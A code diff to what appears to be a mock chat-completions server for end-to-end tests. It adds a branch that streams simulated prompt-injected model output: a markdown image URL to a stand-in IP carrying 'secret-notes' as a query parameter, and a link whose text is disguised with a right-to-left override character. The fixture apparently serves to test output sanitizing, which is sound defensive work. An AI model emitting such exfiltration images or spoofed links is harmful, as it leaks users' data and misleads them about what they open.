@@ -9,7 +9,7 @@ function chunk(content: string, index: number): string {
   return `data: ${JSON.stringify({ id: "chatcmpl-e2e", object: "chat.completion.chunk", created: 1, model: "slow-model", choices: [{ index: 0, delta: index === 0 ? { role: "assistant", content } : { content }, finish_reason: null }] })}\n\n`;
 }
 
-createServer((request, response) => {
+createServer(async (request, response) => {
   if (request.url === "/health") return void response.end("ok");
   if (request.url === "/stats") {
     response.setHeader("content-type", "application/json");
@@ -20,7 +20,17 @@ createServer((request, response) => {
     return void response.end(JSON.stringify({ object: "list", data: [{ id: "slow-model", object: "model", max_model_len: 32768 }] }));
   }
   if (request.url === "/v1/chat/completions" && request.method === "POST") {
-    request.resume();
+    const body: Buffer[] = [];
+    request.on("data", (part: Buffer) => body.push(part));
+    await new Promise((resolve) => request.on("end", resolve));
+    // Prompt-injected output: a remote image that would carry data away, and a link whose text is
+    // reversed by a right-to-left override.
+    if (Buffer.concat(body).toString().includes("hostile markdown")) {
+      response.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
+      response.write(chunk("Here: ![chart](http://198.51.100.7/leak.png?data=secret-notes) and [report\u202Efdp.exe](https://example.org/r) done.", 0));
+      response.write(`data: ${JSON.stringify({ id: "chatcmpl-e2e", object: "chat.completion.chunk", created: 1, model: "slow-model", choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\n`);
+      return void response.end("data: [DONE]\n\n");
+    }
     stats.started += 1;
     response.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
     let sent = 0;
